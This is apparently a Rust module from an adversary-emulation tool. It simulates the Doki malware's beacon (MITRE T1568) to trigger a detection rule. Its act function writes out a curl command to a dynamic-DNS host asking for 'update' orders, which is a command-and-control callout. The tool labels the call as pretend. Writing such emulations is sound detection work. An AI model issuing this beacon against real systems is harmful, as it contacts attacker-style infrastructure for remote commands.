//! Doki's beacon, by a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "dynamic-name",
    title: "Dynamic name asked for orders",
    technique: "T1568",
    technique_v18: None,
    needs: &[],
    rules: &["Dynamic name or wallet service asked for orders"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("curl", &["-s", "https://6d77335c4f23.ddns.net/update"])
}
